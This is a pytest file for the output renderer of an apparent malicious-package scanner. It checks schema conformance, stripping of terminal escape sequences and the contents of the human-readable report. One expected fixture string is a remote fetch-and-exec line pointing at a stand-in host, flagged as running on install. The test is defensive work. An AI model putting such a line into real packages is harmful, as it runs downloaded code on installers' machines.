"""What a person and what a tool read."""

from __future__ import annotations

import io
import json
from pathlib import Path

import jsonschema
import pytest

from pratique.cli.outcome import Outcome
from pratique.cli.render.renderer import Format, renderer
from pratique.finding import Behaviour, Confidence, Phase, Severity
from pratique.verdict import Report
from tests.cli.engines import finding, report

_SCHEMA = json.loads((Path(__file__).parents[2] / "docs" / "report.schema.json").read_text(encoding="utf-8"))


def _render(form: Format, *reports: Report) -> str:
    stream = io.StringIO()
    outcomes = [Outcome(target=f"dist/{r.artifact.name.filename}", report=r) for r in reports]
    out = renderer(form, stream)
    for outcome in outcomes:
        out.write(outcome)
    out.finish(outcomes)
    return stream.getvalue()


def test_every_line_keeps_the_schema() -> None:
    """Each value of each enumeration, an error and a clean report are as `docs/report.schema.json` says."""
    findings = [finding(behaviour=b) for b in Behaviour]
    findings += [finding(severity=s, confidence=c, phase=p) for s in Severity for c in Confidence for p in Phase]
    lines = _render(Format.JSONL, report(), report(*findings), report(error="broken\udcff")).splitlines()
    for line in lines:
        jsonschema.validate(json.loads(line), _SCHEMA)
    assert [json.loads(line)["verdict"] for line in lines] == ["clean", "malicious", "error"]


def test_json_is_one_array_of_the_same_objects() -> None:
    """A tool that wants one document gets what the lines say."""
    reports = report(), report(finding())
    lines = [json.loads(line) for line in _render(Format.JSONL, *reports).splitlines()]
    assert json.loads(_render(Format.JSON, *reports)) == lines
    assert json.loads(_render(Format.JSON)) == []


@pytest.mark.parametrize("form", list(Format))
def test_a_package_cannot_steer_the_terminal(form: Format) -> None:
    """Neither escape sequences nor bidirectional overrides from a finding reach the output of any format."""
    text = _render(form, report(finding()))
    assert not set(text) & {"\x1b", "\r", "\x07", "\u202e", "\x9b"}


def test_text_shows_everything_that_a_person_needs() -> None:
    """Verdict, place, code, layers, flow and phase of a finding are all there, and a sum at the end."""
    text = _render(Format.TEXT, report(finding()), report())
    for part in (
        "MALICIOUS",
        "dist/example_pkg-1.0.tar.gz",
        "made-up",
        r"setup.py\x1b[2J:3",
        "exec(get('https://files.example.invalid/x').text)",
        "base64 → zlib",
        "get (line 2) → exec (line 3)",
        "when it is installed",
        "2 artifacts, 4.0 KiB: 1 malicious, 1 clean",
    ):
        assert part in text


def test_text_says_why_something_was_not_inspected() -> None:
    """An error carries its reason."""
    assert "not inspected: gave up after 120 s" in _render(Format.TEXT, report(error="gave up after 120 s"))


def test_text_says_how_much_it_left_out() -> None:
    """A report with very many findings is cut, and says so."""
    assert "and 5 more" in _render(Format.TEXT, report(*[finding(line=n) for n in range(25)]))
